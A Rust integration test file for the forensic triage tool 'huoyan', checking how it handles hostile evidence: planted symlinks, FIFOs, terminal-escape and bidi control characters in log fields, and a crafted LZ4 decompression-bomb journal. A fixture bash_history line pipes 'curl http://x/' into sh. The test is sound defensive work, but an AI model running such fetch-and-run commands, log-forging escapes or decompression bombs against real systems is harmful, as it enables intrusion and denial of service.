//! Hostile roots and hostile case folders (issue 23): nothing written outside the case folder,
//! no raw control byte in any written file, no hang on special files, every cap a gap. Each
//! test generates its own small input.

use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

fn huoyan() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_huoyan"));
    c.env("NO_COLOR", "1");
    c
}

/// Writes `files` (logical path, content) under `dir/root`.
fn root_with(dir: &Path, files: &[(&str, &[u8])]) -> PathBuf {
    let root = dir.join("root");
    for (path, content) in files {
        let p = root.join(path);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(&p, content).expect("write");
    }
    root
}

const PASSWD: &[u8] = b"root:x:0:0:root:/root:/bin/bash\n\
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n";
const GROUP: &[u8] = b"root:x:0:\nwww-data:x:33:\n";
const DPKG_STATUS: &[u8] =
    b"Package: bash\nStatus: install ok installed\nVersion: 5.2\nArchitecture: amd64\n\n";

/// Control characters and bidi overrides an attacker puts into log fields and names.
const NASTY_AUTH: &str = "2026-11-20T10:00:00.000000+00:00 web\u{1b}[2J\u{7}01 sshd[100]: \
Failed password for invalid user ev\u{8}\u{8}il\r\u{1b}[31mCRITICAL:\u{9b}0m\u{202e}gpj from 192.0.2.66 port 50000 ssh2\n\
2026-11-20T10:00:05.000000+00:00 web\u{1b}[2J\u{7}01 sshd[101]: Accepted password for \
ev\u{8}\u{8}il\r\u{1b}[31mCRITICAL:\u{85}\u{9b}0m\u{202e}gpj\u{2066} from 192.0.2.66 port 50001 ssh2\n";

fn run(cmd: &mut Command) -> Output {
    let out = cmd.output().expect("run huoyan");
    assert!(
        out.status.code().is_some(),
        "huoyan died: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn triage(root: &Path, case: &Path) -> Output {
    run(huoyan()
        .arg("triage")
        .arg("--root")
        .arg(root)
        .arg("--out")
        .arg(case)
        .arg("--since")
        .arg("2026-11-01")
        .arg("--no-collect"))
}

fn small_case(dir: &Path) -> PathBuf {
    let root = root_with(
        dir,
        &[
            ("etc/passwd", PASSWD),
            ("etc/group", GROUP),
            ("etc/hostname", b"web01\n"),
            ("var/lib/dpkg/status", DPKG_STATUS),
            ("var/log/auth.log", NASTY_AUTH.as_bytes()),
            (
                "root/.bash_history",
                "#1763632800\ncurl http://x/\u{9b}31m\u{202e}sh | sh\u{7}\n".as_bytes(),
            ),
        ],
    );
    let case = dir.join("case");
    let out = triage(&root, &case);
    assert!(
        case.join("findings.jsonl").is_file(),
        "triage wrote no case: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    case
}

/// Issue 23 item 4: `report CASE` followed a planted `report.en.html` symlink and overwrote its
/// target. Now every report file is written beside and renamed over the link.
#[test]
fn report_replaces_planted_symlinks_and_leaves_their_targets_alone() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let case = small_case(tmp.path());
    let victim = tmp.path().join("victim");
    std::fs::write(&victim, b"precious").expect("victim");
    for name in [
        "report.en.html",
        "report.en.md",
        "report.zh.html",
        "story.json",
    ] {
        let p = case.join(name);
        let _ = std::fs::remove_file(&p);
        symlink(&victim, &p).expect("plant symlink");
    }
    // A dangling link too: following it would create a file outside the case.
    let outside = tmp.path().join("created-outside");
    let _ = std::fs::remove_file(case.join("report.zh.md"));
    symlink(&outside, case.join("report.zh.md")).expect("dangling");
    for lang in ["en", "zh"] {
        let out = run(huoyan().arg("report").arg(&case).arg("--lang").arg(lang));
        assert!(
            out.status.success(),
            "report failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    assert_eq!(std::fs::read(&victim).expect("victim"), b"precious");
    assert!(!outside.exists(), "a file was created outside the case");
    for name in [
        "report.en.html",
        "report.en.md",
        "story.json",
        "report.zh.md",
    ] {
        let m = std::fs::symlink_metadata(case.join(name)).expect("report");
        assert!(m.file_type().is_file(), "{name} is still a link");
    }
    // No temporary file left beside the reports.
    for e in std::fs::read_dir(&case).expect("ls").flatten() {
        let n = e.file_name().to_string_lossy().into_owned();
        assert!(!n.ends_with(".tmp"), "left behind: {n}");
    }
}

/// Issue 23 item 4: `timeline --out` into a folder holding planted links.
#[test]
fn timeline_out_never_writes_through_a_planted_symlink() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let root = root_with(
        tmp.path(),
        &[
            ("etc/passwd", PASSWD),
            ("var/log/auth.log", NASTY_AUTH.as_bytes()),
        ],
    );
    let out_dir = tmp.path().join("tl");
    std::fs::create_dir(&out_dir).expect("mkdir");
    let victim = tmp.path().join("victim");
    std::fs::write(&victim, b"precious").expect("victim");
    symlink(&victim, out_dir.join("timesketch.csv")).expect("plant");
    symlink(&victim, out_dir.join("events.jsonl")).expect("plant");
    let out = run(huoyan()
        .arg("timeline")
        .arg("--root")
        .arg(&root)
        .arg("--since")
        .arg("2026-11-01")
        .arg("--out")
        .arg(&out_dir));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(std::fs::read(&victim).expect("victim"), b"precious");
    // A symlinked output folder is refused rather than written through.
    let elsewhere = tmp.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).expect("mkdir");
    let linked = tmp.path().join("linked");
    symlink(&elsewhere, &linked).expect("plant dir");
    let out = run(huoyan()
        .arg("timeline")
        .arg("--root")
        .arg(&root)
        .arg("--out")
        .arg(&linked));
    assert!(!out.status.success());
    assert_eq!(std::fs::read_dir(&elsewhere).expect("ls").count(), 0);
}

/// The characters no written text file may carry raw: C0 controls except newline (and tab),
/// DEL, C1, bidi controls, zero-width marks, line separators.
fn raw_controls(text: &str) -> Vec<(usize, char)> {
    text.char_indices()
        .filter(|&(_, c)| c != '\n' && c != '\t' && huoyan_core::text::is_dangerous(c))
        .take(5)
        .collect()
}

/// Issue 23 item 5: the timeline CSV carried raw ESC, BEL, CR and BS (a `cat` showed a fake
/// `CRITICAL:` line) and the JSON files C1 and bidi controls. Every written text file is now
/// free of them.
#[test]
fn written_files_carry_no_raw_control_characters() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let case = small_case(tmp.path());
    let mut checked = 0;
    let mut stack = vec![case.clone()];
    while let Some(dir) = stack.pop() {
        for e in std::fs::read_dir(&dir).expect("ls").flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
                continue;
            }
            let bytes = std::fs::read(&p).expect("read");
            let Ok(text) = String::from_utf8(bytes) else {
                continue; // binary members (bundles) are not text
            };
            let bad = raw_controls(&text);
            assert!(bad.is_empty(), "{}: raw controls {bad:?}", p.display());
            checked += 1;
        }
    }
    assert!(checked >= 6, "only {checked} files checked");
    // The attacker's text is still there, escaped.
    let csv = std::fs::read_to_string(case.join("timeline/timesketch.csv")).expect("csv");
    assert!(csv.contains("CRITICAL:"), "{csv}");
    let findings = std::fs::read_to_string(case.join("findings.jsonl")).expect("findings");
    for line in findings.lines() {
        let _: serde_json::Value = serde_json::from_str(line).expect("valid JSON line");
    }
}

fn mkfifo(path: &Path) {
    rustix::fs::mknodat(
        rustix::fs::CWD,
        path,
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o600),
        0,
    )
    .expect("mkfifo");
}

/// Runs `cmd` with a deadline: a hang is a failure, not a stuck test run.
fn run_within(cmd: &mut Command, limit: Duration) -> Output {
    let mut child = cmd
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    let started = Instant::now();
    loop {
        if child.try_wait().expect("wait").is_some() {
            return child.wait_with_output().expect("output");
        }
        if started.elapsed() > limit {
            let _ = child.kill();
            let _ = child.wait();
            panic!("huoyan did not finish within {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Issue 23 item 1: `verify` on a FIFO or /dev/zero blocked forever; `report` with a FIFO as
/// findings.jsonl too. Both are refused with an error naming the kind of file.
#[test]
fn verify_and_report_refuse_fifos_and_devices() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let fifo = tmp.path().join("bundle.tar.zst");
    mkfifo(&fifo);
    for target in [fifo.as_path(), Path::new("/dev/zero")] {
        let out = run_within(huoyan().arg("verify").arg(target), Duration::from_secs(20));
        assert!(!out.status.success());
        // `verify` names it on stdout ("NOT A BUNDLE: …"), like any verdict on a bundle.
        let said = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(said.contains("not a regular file"), "{said}");
    }
    let case = tmp.path().join("case");
    std::fs::create_dir(&case).expect("mkdir");
    mkfifo(&case.join("findings.jsonl"));
    let out = run_within(huoyan().arg("report").arg(&case), Duration::from_secs(20));
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("not a regular file"), "{err}");
}

/// Issue 23 item 6: one malformed findings.jsonl line made `report` fail; it is now skipped and
/// the report names it as a gap.
#[test]
fn report_skips_a_malformed_findings_line_with_a_gap() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let case = small_case(tmp.path());
    let path = case.join("findings.jsonl");
    let mut text = std::fs::read_to_string(&path).expect("findings");
    text.push_str("{\"record\": \"finding\", garbage\n");
    std::fs::write(&path, text).expect("write");
    let out = run(huoyan().arg("report").arg(&case));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let md = std::fs::read_to_string(case.join("report.en.md")).expect("md");
    assert!(md.contains("findings.jsonl"), "the gap names the file");
    assert!(md.contains("skipped"), "{md}");
}

/// Issue 23 item 6: a garbage `.sha256` sidecar was reported as "missing".
#[test]
fn garbage_sidecar_is_unreadable_not_missing() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let bundle = tmp.path().join("b.tar.zst");
    // A zstd magic, then garbage: a damaged bundle rather than no bundle at all.
    std::fs::write(&bundle, b"\x28\xb5\x2f\xfdnot a bundle").expect("bundle");
    std::fs::write(tmp.path().join("b.tar.zst.sha256"), b"\x00\x01garbage\n").expect("sidecar");
    let out = run(huoyan().arg("verify").arg("--json").arg(&bundle));
    let v: serde_json::Value =
        serde_json::from_slice(&out.stdout).expect("one JSON object on stdout");
    let sidecar = v["sidecar"].as_str().expect("sidecar");
    assert!(sidecar.starts_with("unreadable"), "{sidecar}");
}

fn logs_json(root: &Path) -> Vec<serde_json::Value> {
    let out = run_within(
        huoyan().arg("logs").arg("--root").arg(root).arg("--json"),
        Duration::from_secs(120),
    );
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON line"))
        .collect()
}

/// Issue 23 item 6: a FIFO at auth.log was reported as "absent", and a 10 MB single-line
/// auth.log gave neither finding nor gap.
#[test]
fn special_and_overlong_auth_logs_are_named_in_gaps() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let root = root_with(tmp.path(), &[("etc/passwd", PASSWD)]);
    std::fs::create_dir_all(root.join("var/log")).expect("mkdir");
    mkfifo(&root.join("var/log/auth.log"));
    let records = logs_json(&root);
    let gap = records
        .iter()
        .find(|r| r["record"] == "gap" && r["path"] == "/var/log/auth.log")
        .unwrap_or_else(|| panic!("no gap for the FIFO: {records:#?}"));
    assert!(
        gap["detail"]
            .as_str()
            .is_some_and(|d| d.contains("not a regular file")),
        "{gap}"
    );

    let tmp = tempfile::tempdir().expect("tempdir");
    let mut long = vec![b'A'; 10 << 20];
    long.extend_from_slice(b"\n");
    let root = root_with(
        tmp.path(),
        &[("etc/passwd", PASSWD), ("var/log/auth.log", &long)],
    );
    let records = logs_json(&root);
    assert!(
        records.iter().any(|r| r["record"] == "gap"
            && r["path"] == "/var/log/auth.log"
            && r["detail"]
                .as_str()
                .is_some_and(|d| d.contains("longer than"))),
        "{records:#?}"
    );
}

/// Issue 23 item 7: `collect --root IMAGE` read the responder's host /etc/shadow and /etc/group
/// for the custody record. Only the host's /etc/passwd may be opened now (traced with strace).
#[test]
fn collect_on_an_image_never_opens_the_hosts_shadow_or_group() {
    if Command::new("strace").arg("-V").output().is_err() {
        eprintln!("strace is not installed: test not run");
        return;
    }
    let tmp = tempfile::tempdir().expect("tempdir");
    let root = root_with(
        tmp.path(),
        &[
            ("etc/passwd", PASSWD),
            ("etc/group", GROUP),
            ("etc/shadow", b"root:*:19000:0:99999:7:::\n"),
            ("var/log/auth.log", NASTY_AUTH.as_bytes()),
        ],
    );
    let trace = tmp.path().join("trace");
    let out = run(Command::new("strace")
        .arg("-f")
        .arg("-e")
        .arg("trace=open,openat,openat2")
        .arg("-o")
        .arg(&trace)
        .arg(env!("CARGO_BIN_EXE_huoyan"))
        .arg("collect")
        .arg("--root")
        .arg(&root)
        .arg("--out")
        .arg(tmp.path().join("out")));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let trace = std::fs::read_to_string(&trace).expect("trace");
    for host_file in ["\"/etc/shadow\"", "\"/etc/gshadow\"", "\"/etc/group\""] {
        assert!(
            !trace.contains(host_file),
            "the host's {host_file} was opened:\n{}",
            trace
                .lines()
                .filter(|l| l.contains(host_file))
                .collect::<Vec<_>>()
                .join("\n")
        );
    }
    assert!(
        trace.contains("\"/etc/passwd\""),
        "the operator's name is resolved from the host's passwd"
    );
}

/// A systemd journal of `datas` MESSAGE objects of 1 MiB each, stored LZ4-compressed (a few
/// kilobytes each), one entry per object, and an entry array listing every entry and then
/// `repeats` more references to the first one.
fn crafted_journal(datas: usize, repeats: usize) -> Vec<u8> {
    const FIELD: usize = 1 << 20;
    fn pad(f: &mut Vec<u8>) {
        while !f.len().is_multiple_of(8) {
            f.push(0);
        }
    }
    let mut f = vec![0u8; 272];
    f[..8].copy_from_slice(b"LPKSHHRH");
    f[88..96].copy_from_slice(&272u64.to_le_bytes());
    let mut data_at = Vec::new();
    for d in 0..datas {
        // An LZ4 block by hand: the literals "MESSAGE=" and one letter, a match of that letter
        // (offset 1) for almost the whole field, five closing literals.
        let letter = b'a' + (d % 26) as u8;
        let mut block = vec![0x9Fu8];
        block.extend(b"MESSAGE=");
        block.push(letter);
        block.extend(1u16.to_le_bytes());
        let mut rest = FIELD - 9 - 5 - 4 - 15;
        while rest >= 255 {
            block.push(255);
            rest -= 255;
        }
        block.push(rest as u8);
        block.push(0x50);
        block.extend([letter; 5]);
        let mut payload = (FIELD as u64).to_le_bytes().to_vec();
        payload.extend(block);
        if d == 0 {
            let field = huoyan_artifacts::journal::decompress(2, &payload).expect("valid LZ4");
            assert_eq!(field.len(), FIELD);
            assert!(field.starts_with(b"MESSAGE=a"));
        }
        let at = f.len();
        data_at.push(at as u64);
        f.extend([1u8, 2, 0, 0, 0, 0, 0, 0]);
        f.extend(((64 + payload.len()) as u64).to_le_bytes());
        f.resize(at + 64, 0);
        f.extend(payload);
        pad(&mut f);
    }
    let mut entry_at = Vec::new();
    for (e, data) in data_at.iter().enumerate() {
        let at = f.len();
        entry_at.push(at as u64);
        f.extend([3u8, 0, 0, 0, 0, 0, 0, 0]);
        f.extend(80u64.to_le_bytes());
        f.extend((e as u64 + 1).to_le_bytes());
        f.extend(1_764_288_000_000_000u64.to_le_bytes());
        f.resize(at + 64, 0);
        f.extend(data.to_le_bytes());
        f.extend(0u64.to_le_bytes());
    }
    let refs: Vec<u64> = entry_at
        .iter()
        .copied()
        .chain(std::iter::repeat_n(entry_at[0], repeats))
        .collect();
    let arr = f.len();
    f.extend([6u8, 0, 0, 0, 0, 0, 0, 0]);
    f.extend(((24 + 8 * refs.len()) as u64).to_le_bytes());
    f.extend(0u64.to_le_bytes());
    for r in refs {
        f.extend(r.to_le_bytes());
    }
    let arena = (f.len() - 272) as u64;
    f[96..104].copy_from_slice(&arena.to_le_bytes());
    f[152..160].copy_from_slice(&(datas as u64).to_le_bytes());
    f[176..184].copy_from_slice(&(arr as u64).to_le_bytes());
    f
}

/// Issue 23 item 1: a crafted journal (an entry array with many references to one entry whose
/// compressed MESSAGE inflates to 1 MiB) ran for tens of minutes. Repeats are now read once,
/// and a file that would inflate past the per-file budget is cut with a gap.
#[test]
fn crafted_journal_is_read_within_budget_and_cut_with_a_gap() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let journal = crafted_journal(300, 200_000);
    assert!(journal.len() < 8 << 20, "{} bytes on disk", journal.len());
    let root = root_with(
        tmp.path(),
        &[
            ("etc/passwd", PASSWD),
            ("var/log/journal/0123456789abcdef/system.journal", &journal),
        ],
    );
    let started = Instant::now();
    let records = logs_json(&root);
    assert!(started.elapsed() < Duration::from_secs(120));
    assert!(
        records.iter().any(|r| r["record"] == "gap"
            && r["area"] == "logs.journal"
            && r["detail"]
                .as_str()
                .is_some_and(|d| d.contains("decompression budget"))),
        "{records:#?}"
    );
}
